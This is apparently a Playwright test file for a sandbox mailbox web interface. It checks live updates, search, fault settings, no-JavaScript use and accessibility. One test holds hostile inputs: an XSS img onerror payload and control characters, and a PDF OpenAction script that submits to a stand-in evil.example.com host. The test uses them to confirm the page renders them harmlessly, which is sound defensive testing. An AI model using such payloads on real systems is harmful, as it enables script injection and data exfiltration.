"""The mailbox as a person uses it, in Chromium."""

from __future__ import annotations

import re
from typing import Any

import httpx
import pytest
from browser import Tabs, accessibility_faults

from batchsend.sandbox import Fault

NASTY = '<img src="//evil.example.com/x" onerror="alert(1)">\u202e\x1b[31m'


@pytest.fixture
def home(api: httpx.Client) -> str:
    return str(api.base_url).rstrip("/")


@pytest.fixture
def send(api: httpx.Client, body: Any, pdf: bytes) -> Any:
    def send(identifier: str, name: str = "Kari Nordmann", **fields: Any) -> None:
        recipient = {"Name": name, "PostCode": "0150", "City": "Oslo"}
        letter = body(identifier, pdf=pdf, Invoicee=recipient, **fields)
        api.post("/send/letter", content=letter)

    return send


def names(page: Any) -> list[str]:
    return list(page.locator("#letters .who").all_inner_texts())


@pytest.mark.slow
def test_letters_come_by_themselves(tabs: Tabs, home: str, send: Any) -> None:
    send("one", "Kari Nordmann")
    page = tabs.open(home)
    send("two", "Ola Nordmann")
    page.locator("#letters li").nth(1).wait_for()
    assert names(page) == ["Ola Nordmann", "Kari Nordmann"]
    assert "2 letters taken" in page.locator("header").inner_text()
    assert page.get_by_role("row", name="202 The letter is taken 2").is_visible()
    assert "1 new" in page.locator("[role=status]").inner_text()
    page.get_by_role("button", name="Live").click()
    page.locator("#live").get_by_text("Paused").wait_for()
    send("three", "Per Moe")
    page.get_by_role("button", name="Live").click()
    page.locator("#letters").get_by_text("Per Moe").wait_for()
    assert names(page) == ["Per Moe", "Ola Nordmann", "Kari Nordmann"]


@pytest.mark.slow
def test_a_letter_is_chosen_by_mouse_and_by_keyboard(tabs: Tabs, home: str, send: Any) -> None:
    for name in ("Kari", "Ola"):
        send(f"to-{name}", name, Note=f"for {name}")
    page = tabs.open(home)
    page.get_by_role("link", name=re.compile("Ola")).click()
    page.get_by_role("heading", name="Ola").wait_for()
    assert "for Ola" in page.locator("main").inner_text()
    picture = page.get_by_role("img", name="Page 1 of 2")
    picture.scroll_into_view_if_needed()
    assert picture.evaluate("image => image.decode().then(() => image.naturalWidth)") == 992
    page.locator("#letters a[aria-current]").focus()
    send("to-Per", "Per")
    page.locator("#letters").get_by_text("to-Per").wait_for()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    page.get_by_role("heading", name="Kari").wait_for()
    assert page.title() == "Kari · Sandbox mailbox"
    page.go_back()
    page.get_by_role("heading", name="Ola").wait_for()
    assert page.locator("#letters a[aria-current]").inner_text().startswith("Ola")


@pytest.mark.slow
def test_searching_while_one_types(tabs: Tabs, home: str, send: Any) -> None:
    for name in ("Kari", "Ola", "Per"):
        send(f"to-{name}", name)
    page = tabs.open(home)
    page.get_by_role("searchbox").press_sequentially("kar")
    page.wait_for_url("**/?q=kar")
    assert names(page) == ["Kari"]
    send("another", "Karin")
    send("none of them", "Liv")
    page.locator("#letters li").nth(1).wait_for()
    assert names(page) == ["Karin", "Kari"]
    page.get_by_role("searchbox").fill("nobody")
    page.get_by_text("Nothing here is like that").wait_for()


@pytest.mark.slow
def test_faults_are_set_by_form_and_taken_back(
    tabs: Tabs, home: str, api: httpx.Client, send: Any
) -> None:
    page = tabs.open(home)
    page.get_by_role("link", name="Faults: none").click()
    page.get_by_label("503, not available").fill("100")
    page.get_by_role("button", name="Set the faults").click()
    page.get_by_text("The faults are set").wait_for()
    assert api.get("/sandbox/faults").json()["rates"] == {"503": 1.0}
    send("refused")
    page.get_by_role("link", name=re.compile("Kari")).click()
    page.get_by_text("The letter was not taken").wait_for()
    page.goto(f"{home}/faults")
    assert page.get_by_label("503, not available").input_value() == "100"
    page.get_by_role("button", name="Behave").click()
    page.get_by_text("Faults: none").wait_for()
    assert api.get("/sandbox/faults").json()["rates"] == {}


def test_without_java_script_it_is_all_there(
    tabs: Tabs, home: str, api: httpx.Client, send: Any
) -> None:
    send("one", "Kari")
    send("two", "Ola")
    page = tabs.open(home, java_script=False)
    page.get_by_role("searchbox").fill("kari")
    page.get_by_role("button", name="Search").click()
    assert names(page) == ["Kari"]
    page.get_by_role("link", name=re.compile("Kari")).click()
    assert "Invoicee.Name" in page.locator("main").inner_text()
    assert page.get_by_role("img", name="Page 1 of 2").is_visible()
    page.get_by_role("link", name="Faults: none").click()
    page.get_by_label("503, not available").fill("5")
    page.get_by_role("button", name="Set the faults").click()
    assert api.get("/sandbox/faults").json()["rates"] == {"503": 0.05}


def test_a_hostile_letter_does_no_harm(
    tabs: Tabs, home: str, api: httpx.Client, body: Any, pdf: bytes
) -> None:
    script = b"/OpenAction<</S/JavaScript/JS(app.alert(1);this.submitForm('//evil.example.com/'))>>"
    hostile = pdf.replace(b"/Type/Catalog", script + b"/Type/Catalog")
    name = {"Name": NASTY, "City": NASTY}
    page = tabs.open(home)
    page.on("dialog", lambda dialog: tabs.faults.append(dialog.message))
    letter = body(NASTY, pdf=hostile, Invoicee=name, Channel=NASTY, Note=NASTY)
    api.post("/send/letter", content=letter).raise_for_status()
    page.locator("#letters a").click()
    page.get_by_role("heading", name="<img src").wait_for()
    page.get_by_role("img", name="Page 1 of 2").wait_for()
    assert not set("\u202e\x1b") & set(page.locator("body").inner_text())
    assert page.locator("body img:not([src^='/'])").count() == 0


@pytest.mark.slow
def test_it_is_accessible_and_no_wider_than_the_screen(
    tabs: Tabs, home: str, api: httpx.Client, send: Any, tell: Any
) -> None:
    tell(script=[Fault.OK, Fault.BUSY, Fault.ERROR_AFTER])
    for identifier in ("one", "two", "two"):
        send(identifier)
    page = tabs.open(home)
    taken, refused, _ = page.locator("#letters a").evaluate_all("all => all.map(a => a.href)")
    found = []
    for address in (home, taken, refused, f"{home}/faults"):
        page.goto(address)
        if address.endswith("faults"):
            page.get_by_label("503, not available").fill("many")
            page.get_by_role("button", name="Set the faults").click()
            page.get_by_text("The faults are as they were").wait_for()
            assert "400 (Bad Request)" in tabs.faults.pop()
        for width, scheme in ((1400, "light"), (390, "dark")):
            page.set_viewport_size({"width": width, "height": 900})
            page.emulate_media(color_scheme=scheme)
            assert page.evaluate("document.documentElement.scrollWidth") <= width
            found += accessibility_faults(page)
    assert found == []
